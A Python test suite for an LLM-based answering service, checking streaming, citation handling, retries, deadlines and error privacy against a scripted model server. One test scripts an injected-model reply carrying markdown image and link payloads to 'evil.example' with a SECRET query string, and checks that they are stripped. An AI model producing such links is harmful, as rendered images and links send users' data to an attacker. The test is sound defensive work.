"""The answerer with a language model, against a real server that speaks the provider's wire format."""

import asyncio
import subprocess
import sys
from collections.abc import AsyncIterator, Callable, Iterator

import pytest

from server.agent.answer import Answer, Declined, ProviderFailed, TextDelta
from server.agent.llm import LlmAnswerer, ModelChoice
from server.settings import read_settings
from tests.scripted_model import CallsTool, Cuts, Fails, Garbage, Gate, Hangs, Quotes, Reply, Says, ScriptedModel
from tests.server.agent.material import INVITE, PLANS, message, passage, retrieval_of, told, turn_of

FOUND = retrieval_of(passage(INVITE), passage(PLANS, article="plans", title="Plans compared"))
TURN = turn_of("How do I invite someone?")


Answerers = Callable[..., LlmAnswerer]


@pytest.fixture
def model() -> Iterator[ScriptedModel]:
    with ScriptedModel() as started:
        yield started


@pytest.fixture(params=["ours", "stock"])
async def answerer(model: ScriptedModel, request: pytest.FixtureRequest) -> AsyncIterator[Answerers]:
    """Makes answerers at the scripted model, served by the lean client or by LangChain's own."""
    made: list[LlmAnswerer] = []

    def make(key: str | None = None, base_url: str = model.base_url, **settings: object) -> LlmAnswerer:
        choice = ModelChoice("openai:scripted", base_url, key, stock=request.param == "stock")
        made.append(LlmAnswerer(choice, read_settings({}, **settings)))
        return made[-1]

    yield make
    for each in made:
        await each.aclose()


async def test_an_answer_streams_and_cites_its_source(model: ScriptedModel, answerer: Answerers) -> None:
    model.script(Says("Press **Invite people** on the **Members** tab [1]."))
    deltas, answer = await told(answerer().answer(TURN, FOUND))
    assert isinstance(answer, Answer)
    assert answer.text == "".join(deltas) == "Press **Invite people** on the **Members** tab [1]."
    assert len(deltas) >= 2
    assert [(source.number, source.title) for source in answer.sources] == [(1, "Invite someone to a project")]
    assert answer.answerer == "openai:scripted"
    assert answer.support == 1.0


async def test_only_cited_passages_become_sources_and_keep_their_numbers(
    model: ScriptedModel, answerer: Answerers
) -> None:
    model.script(Says("Grove costs €6 a month [2]. More is not known [7]."))
    _, answer = await told(answerer().answer(TURN, FOUND))
    assert isinstance(answer, Answer)
    assert answer.text == "Grove costs €6 a month [2]. More is not known."
    assert [source.number for source in answer.sources] == [2]


async def test_a_word_is_passed_on_before_the_next_one_is_there(model: ScriptedModel, answerer: Answerers) -> None:
    gate = Gate()
    model.script(Says("Press Save now [1].", gate=gate))
    stream = aiter(answerer().answer(TURN, FOUND))
    gate.step(2)  # a word is whole when the next one begins
    shown = ""
    while "Press" not in shown:
        piece = await anext(stream)
        assert isinstance(piece, TextDelta)
        shown += piece.text
    assert "now" not in shown
    gate.open()
    rest = [piece async for piece in stream]
    assert isinstance(rest[-1], Answer)


async def test_the_model_sees_rules_page_passages_history_and_question(
    model: ScriptedModel, answerer: Answerers
) -> None:
    earlier = [message("visitor", "How do I invite someone?"), message("ai", "So: [1]")]
    turn = turn_of("And in a group?", history=earlier)
    await told(answerer().answer(turn, FOUND))
    request = model.requests[0]
    assert "BEGIN PASSAGE 1\nInvite someone to a project" in request.system
    assert "Address: /projects/:id/members" in request.system
    assert request.said == (
        ("user", "How do I invite someone?"),
        ("assistant", "So: [1]"),
        ("user", "And in a group?"),
    )
    assert [tool["function"]["name"] for tool in request.body["tools"]] == ["hand_to_person", "rate_own_answer"]


@pytest.mark.parametrize(("key", "sent"), [(None, "Bearer no-key-needed"), ("sk-team", "Bearer sk-team")])
async def test_the_key_of_the_settings_is_sent_or_a_placeholder(
    model: ScriptedModel, answerer: Answerers, key: str | None, sent: str
) -> None:
    await told(answerer(key).answer(TURN, FOUND))
    assert model.requests[0].headers["authorization"] == sent


@pytest.mark.parametrize("first", ["", "I will look for a person."])
async def test_the_tool_declines_with_the_models_reason(model: ScriptedModel, answerer: Answerers, first: str) -> None:
    model.script(CallsTool("hand_to_person", {"reason": 'No word on "Bitcoin".\nAsk billing.'}, first))
    _, end = await told(answerer().answer(TURN, FOUND))
    assert isinstance(end, Declined)
    assert (end.why, end.answerer, end.reason) == ('No word on "Bitcoin". Ask billing.', "openai:scripted", None)


async def test_a_tool_call_without_a_reason_declines_too(model: ScriptedModel, answerer: Answerers) -> None:
    model.script(CallsTool("hand_to_person", {}))
    _, end = await told(answerer().answer(TURN, FOUND))
    assert isinstance(end, Declined)
    assert end.why


@pytest.mark.parametrize(
    "reply",
    [
        Fails(429),
        Fails(401),
        Garbage(),
        Cuts("Press Save and"),
        Cuts("Press Save and", clean=True),
        Says(""),
        Says("  \n"),
        Says("Something", finish_reason="content_filter"),
        Says("endless " * 2_000),
    ],
)
async def test_every_fault_of_the_provider_is_one_error(
    model: ScriptedModel, answerer: Answerers, reply: Reply
) -> None:
    model.script(reply)
    with pytest.raises(ProviderFailed):
        await told(answerer().answer(TURN, FOUND))
    assert len(model.requests) == 1


@pytest.mark.parametrize("stumble", [Fails(500), Fails(429, "0.01"), Cuts("")])
async def test_what_may_be_over_in_a_moment_is_tried_once_more(
    model: ScriptedModel, answerer: Answerers, stumble: Reply
) -> None:
    model.script(stumble, Says("Press Save [1]."))
    _, answer = await told(answerer().answer(TURN, FOUND))
    assert isinstance(answer, Answer)
    model.script(stumble, Fails(503))
    with pytest.raises(ProviderFailed, match="503"):
        await told(answerer().answer(TURN, FOUND))
    assert len(model.requests) == 4


async def test_an_answer_that_is_cut_at_any_byte_never_counts_as_one(model: ScriptedModel, answerer: Answerers) -> None:
    text = "Press **Invite** [1]."
    model.script(*(Cuts(text[:length], clean=True) for length in range(len(text) + 1)))
    llm = answerer()
    for _ in range(len(text) + 1):
        with pytest.raises(ProviderFailed):
            await told(llm.answer(TURN, FOUND))


async def test_no_first_token_within_the_deadline_is_a_failure(model: ScriptedModel, answerer: Answerers) -> None:
    model.script(Hangs())
    with pytest.raises(ProviderFailed, match="deadline"):
        await told(answerer(model_first_token_seconds=0.2).answer(TURN, FOUND))


async def test_a_stream_that_goes_on_beyond_the_whole_deadline_is_a_failure(
    model: ScriptedModel, answerer: Answerers
) -> None:
    model.script(Hangs("Press Save and"))
    llm = answerer(model_total_seconds=1.0)
    await llm.warm()
    with pytest.raises(ProviderFailed, match="deadline"):
        await told(llm.answer(TURN, FOUND))


async def test_nobody_listening_is_a_failure(answerer: Answerers) -> None:
    with pytest.raises(ProviderFailed):
        await told(answerer(base_url="http://127.0.0.1:9/v1").answer(TURN, FOUND))


@pytest.mark.parametrize("name", ["nowhere:model", "anthropic:claude", "no-provider-at-all"])
async def test_a_model_that_cannot_be_made_is_a_failure(name: str) -> None:
    with pytest.raises(ProviderFailed, match=name):
        await LlmAnswerer(ModelChoice(name), read_settings({})).warm()


async def test_a_reader_who_leaves_closes_the_connection(model: ScriptedModel, answerer: Answerers) -> None:
    gate = Gate()
    model.script(Says("one two three", gate=gate))
    stream = answerer().answer(TURN, FOUND)
    gate.step(2)
    await anext(aiter(stream))
    await stream.aclose()
    async with asyncio.timeout(10):
        await asyncio.to_thread(model.left.acquire)


async def test_an_error_never_repeats_what_was_said(model: ScriptedModel, answerer: Answerers) -> None:
    model.script(Fails(400))
    with pytest.raises(ProviderFailed) as failure:
        await told(answerer().answer(turn_of("my password is hunter2"), FOUND))
    assert "hunter2" not in str(failure.value)
    assert "400" in str(failure.value)


async def test_an_injected_model_leaks_nothing_through_links_or_images(
    model: ScriptedModel, answerer: Answerers
) -> None:
    leak = "https://evil.example/?q=SECRET"
    model.script(Says(f"![x]({leak}) [here]({leak}) <img src=//evil> ok [1]"))
    deltas, answer = await told(answerer().answer(TURN, FOUND))
    assert isinstance(answer, Answer)
    assert answer.text == "".join(deltas) == "x here  ok [1]"


async def test_an_answer_in_another_language_than_the_question_counts_half(
    model: ScriptedModel, answerer: Answerers
) -> None:
    model.script(Says("Press Invite people on the Members tab of the project, and then choose the role [1]."))
    turn = turn_of("Wie kann ich jemanden zu meinem Projekt einladen, und was muss ich dafür tun?")
    _, answer = await told(answerer().answer(turn, FOUND))
    assert isinstance(answer, Answer)
    assert answer.support == 0.5


async def test_the_server_quotes_the_first_passage_when_nothing_is_scripted(
    model: ScriptedModel, answerer: Answerers
) -> None:
    assert model.fallback == Quotes()
    _, answer = await told(answerer().answer(TURN, FOUND))
    assert isinstance(answer, Answer)
    assert answer.text == f"{INVITE.strip()} [1]"
    _, end = await told(answerer().answer(TURN, retrieval_of()))
    assert isinstance(end, Declined)


def test_importing_the_agent_imports_no_model_library() -> None:
    code = (
        "import pkgutil, importlib, sys, server.agent as agent\n"
        "[importlib.import_module('server.agent.' + m.name) for m in pkgutil.iter_modules(agent.__path__)]\n"
        "heavy = {'langchain', 'langchain_core', 'openai', 'torch', 'chromadb', 'sentence_transformers'}\n"
        "print(sorted(heavy & set(sys.modules)))"
    )
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert run.stdout.strip() == "[]"
